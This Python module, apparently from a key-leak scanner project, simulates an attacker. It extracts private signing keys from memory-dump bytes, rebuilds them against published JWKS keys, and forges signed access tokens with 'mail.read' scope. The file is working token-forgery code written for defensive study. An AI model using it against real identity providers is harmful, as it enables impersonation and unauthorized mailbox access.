"""The attacker: knows only what the 2023 attacker knew, the public JWKS documents and the bytes
it fetched. It searches the bytes for the private half of any published key (with the
known-key detector), rebuilds that key, and forges access tokens with it. It also picks up
every other private key lying in the bytes as PEM or DER (`loose_keys`) and tries those too,
under their RFC 7638 thumbprint as kid, the way the published kids are made."""

from __future__ import annotations

import secrets
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from joserfc import jwt
from joserfc.jwk import ECKey, OKPKey, RSAKey

from ..scan.formats import head_of, sniff_container
from ..scan.integers import value_at
from ..scan.knownkeys import KnownKey, known_from_documents
from ..scan.scanner import plain_copy, scan_path

PrivateKey = rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey | ed25519.Ed25519PrivateKey


@dataclass(frozen=True)
class StolenKey:
    """A private key rebuilt from dump bytes whose public half a JWKS publishes."""

    kid: str
    alg: str
    issuer: str
    private_key: PrivateKey = field(repr=False)
    found_as: str = ""

    def to_dict(self) -> dict[str, Any]:
        return {"kid": self.kid, "alg": self.alg, "issuer": self.issuer, "found_as": self.found_as}


def _rebuild(known: KnownKey, kind: str, value: int) -> PrivateKey | None:
    if kind == "rsa-prime":
        n, e = known.rsa_n, known.rsa_e
        p, q = value, n // value
        d = pow(e, -1, (p - 1) * (q - 1))
        numbers = rsa.RSAPrivateNumbers(p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q),
                                        rsa.rsa_crt_iqmp(p, q), rsa.RSAPublicNumbers(e, n))
        return numbers.private_key()
    if kind == "rsa-private-exponent":
        n, e = known.rsa_n, known.rsa_e
        p, q = rsa.rsa_recover_prime_factors(n, e, value)
        return rsa.RSAPrivateNumbers(p, q, value, rsa.rsa_crt_dmp1(value, p), rsa.rsa_crt_dmq1(value, q),
                                     rsa.rsa_crt_iqmp(p, q), rsa.RSAPublicNumbers(e, n)).private_key()
    if kind == "ec-private-scalar":
        assert isinstance(known.public_key, ec.EllipticCurvePublicKey)
        return ec.derive_private_key(value, known.public_key.curve)
    if kind == "ed25519-seed":
        return ed25519.Ed25519PrivateKey.from_private_bytes(value.to_bytes(32, "little"))
    return None


def _alg(jwk: dict[str, Any]) -> str:
    if jwk.get("alg"):
        return str(jwk["alg"])
    return {"EC": "ES256", "OKP": "EdDSA"}.get(jwk.get("kty", ""), "RS256")


def steal_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
    """Every published key whose private half is in `dump`, rebuilt and checked against its public half."""
    jwks = {jwk["kid"]: jwk for document in published for jwk in document.get("keys", []) if "kid" in jwk}
    known = known_from_documents(published, "published JWKS")
    by_kid = {k.kid: k for k in known.keys}
    report = scan_path(dump, ["known-key"], known)
    stolen: dict[str, StolenKey] = {}
    with plain_copy(dump, sniff_container(head_of(dump))) as plain, open(plain, "rb") as handle:
        for finding in report.findings:
            if not finding.verified or finding.kid not in by_kid or finding.kid in stolen:
                continue
            handle.seek(finding.offset)
            raw = handle.read(finding.length)
            encoding = finding.encoding if finding.encoding in ("le", "be", "java") else "le"
            key = by_kid[finding.kid]
            private = _rebuild(key, finding.kind, value_at(raw, 0, finding.length, encoding))
            if private is None or known.match(private) is not key:
                continue
            jwk = jwks.get(finding.kid, {})
            stolen[finding.kid] = StolenKey(finding.kid, _alg(jwk), str(jwk.get("issuer", "")), private,
                                            f"{finding.kind} ({finding.encoding}) at offset {finding.offset}")
    return list(stolen.values())


def _jwk(private: PrivateKey) -> RSAKey | ECKey | OKPKey:
    if isinstance(private, rsa.RSAPrivateKey):
        return RSAKey.import_key(private)
    if isinstance(private, ec.EllipticCurvePrivateKey):
        return ECKey.import_key(private)
    return OKPKey.import_key(private)


def _load_serialized(raw: bytes, encoding: str) -> PrivateKey | None:
    from cryptography.hazmat.primitives.serialization import load_der_private_key, load_pem_private_key

    try:
        if encoding == "utf-16le":
            raw = raw.decode("utf-16-le").encode("ascii")
        key = load_pem_private_key(raw, None) if raw.lstrip().startswith(b"-----") else load_der_private_key(raw, None)
    except (ValueError, TypeError, UnicodeError):
        return None
    return key if isinstance(key, (rsa.RSAPrivateKey, ec.EllipticCurvePrivateKey, ed25519.Ed25519PrivateKey)) else None


def loose_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
    """Private keys in `dump` as PEM or DER text whose public half no JWKS publishes."""
    known = known_from_documents(published, "published JWKS")
    report = scan_path(dump, ["text", "der"], known)
    found: dict[str, StolenKey] = {}
    with plain_copy(dump, sniff_container(head_of(dump))) as plain, open(plain, "rb") as handle:
        for finding in report.findings:
            handle.seek(finding.offset)
            private = _load_serialized(handle.read(finding.length), finding.encoding)
            if private is None or known.match(private) is not None:
                continue
            kid = str(_jwk(private).thumbprint())  # RFC 7638, as the published kids are made
            alg = "RS256" if isinstance(private, rsa.RSAPrivateKey) else \
                "ES256" if isinstance(private, ec.EllipticCurvePrivateKey) else "EdDSA"
            found.setdefault(kid, StolenKey(kid, alg, "", private, f"{finding.kind} ({finding.encoding}) at offset "
                                                                   f"{finding.offset}"))
    return list(found.values())


def forge_token(key: StolenKey, *, issuer: str, subject: str, tenant: str, audience: str, now: float,
                lifetime: int = 3600) -> str:
    """An RFC 9068 access token, as the real issuer would shape it, signed with the stolen key."""
    issued = int(now)
    claims = {"iss": issuer, "sub": subject, "aud": audience, "tid": tenant, "client_id": subject,
              "scope": "mail.read", "iat": issued, "nbf": issued, "exp": issued + lifetime,
              "jti": secrets.token_urlsafe(16)}
    header = {"alg": key.alg, "kid": key.kid, "typ": "at+jwt"}
    return jwt.encode(header, claims, _jwk(key.private_key), algorithms=[key.alg])


__all__ = ["StolenKey", "forge_token", "loose_keys", "steal_keys"]
